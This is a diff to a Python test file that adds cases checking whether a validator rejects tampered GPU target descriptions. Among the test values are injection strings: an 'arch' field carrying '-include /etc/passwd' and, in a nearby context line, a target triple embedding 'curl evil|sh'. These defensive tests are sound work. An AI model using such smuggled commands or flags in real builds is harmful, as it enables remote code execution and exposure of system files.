@@ -64,6 +64,23 @@ def test_what_a_device_says_is_taken() -> None:
     assert _plausible(GPU)
 
 
+@pytest.mark.parametrize(
+    "spoiled",
+    [
+        {"kind": "hip"},
+        {"arch": "sm_90 -include /etc/passwd"},
+        {"max_threads_per_block": 0},
+        {"max_threads_per_block": 1e3},
+    ],
+)
+def test_what_no_gpu_says_is_not(spoiled: dict[str, Any]) -> None:
+    said = copy.deepcopy(GPU)
+    said["hardware"]["target"].update(spoiled)
+    assert not _plausible(said)
+    del said["hardware"]["target"][next(iter(spoiled))]
+    assert not _plausible(said)
+
+
 @pytest.mark.parametrize("spoiled", [{"mtriple": "x;curl evil|sh;-linux-gnu"}, {"mcpu": "a\nb"}, {"mattr": ["a\nb"]}])
 def test_what_no_gpus_processor_says_is_not(spoiled: dict[str, Any]) -> None:
     said = copy.deepcopy(GPU)
